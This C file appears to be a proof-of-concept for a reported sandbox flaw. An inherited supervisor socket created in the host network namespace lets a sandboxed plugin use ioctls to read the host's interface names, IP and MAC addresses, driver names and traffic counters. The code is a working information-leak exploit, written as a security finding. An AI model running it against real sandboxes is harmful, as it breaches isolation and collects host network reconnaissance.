// Finding: the event channel (fd 3) is a socketpair the supervisor creates in the HOST
// network namespace, so socket ioctls on it reach the host's network devices from inside
// the sandbox's empty network namespace: interface names and indexes, IPv4 addresses
// (SIOCGIFCONF), MAC addresses, MTUs, driver names and live traffic counters (SIOCETHTOOL
// GDRVINFO/GSTATS). A socketpair the plugin makes itself only shows `lo`.
//
// Build: gcc -static -O1 -o netleak host_netns_via_channel.c   (native entry point)
// manifest: {"name":"nl","version":"1.0.0","entry_point":"netleak"}
// Run: wfsandbox run DIR/manifest.json [-- IFNAME-for-stats]
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/ethtool.h>
#include <linux/sockios.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void dump(int fd, const char *label) {
    printf("--- via %s (fd %d)\n", label, fd);
    char buf[8192];
    struct ifconf ifc = {.ifc_len = sizeof buf, .ifc_buf = buf};
    if (ioctl(fd, SIOCGIFCONF, &ifc) < 0) printf("SIOCGIFCONF: %s\n", strerror(errno));
    else
        for (struct ifreq *r = (struct ifreq *)buf; (char *)r < buf + ifc.ifc_len; r++)
            printf("SIOCGIFCONF: %-10s %s\n", r->ifr_name, inet_ntoa(((struct sockaddr_in *)&r->ifr_addr)->sin_addr));
    for (int idx = 1; idx < 64; idx++) {
        struct ifreq r = {.ifr_ifindex = idx};
        if (ioctl(fd, SIOCGIFNAME, &r) < 0) continue;
        struct ifreq h = {0}, mt = {0}, e = {0};
        strncpy(h.ifr_name, r.ifr_name, IFNAMSIZ);
        strncpy(mt.ifr_name, r.ifr_name, IFNAMSIZ);
        strncpy(e.ifr_name, r.ifr_name, IFNAMSIZ);
        int hw = ioctl(fd, SIOCGIFHWADDR, &h);
        ioctl(fd, SIOCGIFMTU, &mt);
        struct ethtool_drvinfo di = {.cmd = ETHTOOL_GDRVINFO};
        e.ifr_data = (void *)&di;
        int et = ioctl(fd, SIOCETHTOOL, &e);
        unsigned char *m = (unsigned char *)h.ifr_hwaddr.sa_data;
        printf("ifindex %d: %-10s mac %s%02x:%02x:%02x:%02x:%02x:%02x mtu %d driver %s\n", idx, r.ifr_name,
               hw < 0 ? "ERR " : "", m[0], m[1], m[2], m[3], m[4], m[5], mt.ifr_mtu, et < 0 ? strerror(errno) : di.driver);
    }
}

static void stats(int fd, const char *ifn) {
    struct {
        struct ethtool_sset_info h;
        unsigned int len;
    } ss = {{.cmd = ETHTOOL_GSSET_INFO, .sset_mask = 1ULL << ETH_SS_STATS}};
    struct ifreq r = {0};
    strncpy(r.ifr_name, ifn, IFNAMSIZ);
    r.ifr_data = (void *)&ss;
    if (ioctl(fd, SIOCETHTOOL, &r) < 0) {
        printf("ETHTOOL_GSSET_INFO %s: %s\n", ifn, strerror(errno));
        return;
    }
    unsigned n = ss.len;
    struct ethtool_gstrings *names = calloc(1, sizeof *names + n * ETH_GSTRING_LEN);
    names->cmd = ETHTOOL_GSTRINGS;
    names->string_set = ETH_SS_STATS;
    names->len = n;
    r.ifr_data = (void *)names;
    ioctl(fd, SIOCETHTOOL, &r);
    struct ethtool_stats *st = calloc(1, sizeof *st + n * 8);
    st->cmd = ETHTOOL_GSTATS;
    st->n_stats = n;
    r.ifr_data = (void *)st;
    if (ioctl(fd, SIOCETHTOOL, &r) < 0) {
        printf("ETHTOOL_GSTATS %s: %s\n", ifn, strerror(errno));
        return;
    }
    printf("host %s traffic counters (%u):", ifn, n);
    for (unsigned i = 0; i < n && i < 12; i++)
        printf(" %s=%llu", (char *)names->data + i * ETH_GSTRING_LEN, (unsigned long long)st->data[i]);
    printf("\n");
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IONBF, 0);
    dump(3, "inherited channel socket");
    stats(3, argc > 1 ? argv[1] : "eth0");
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0) dump(sv[0], "the plugin's own socketpair");
    return 0;
}
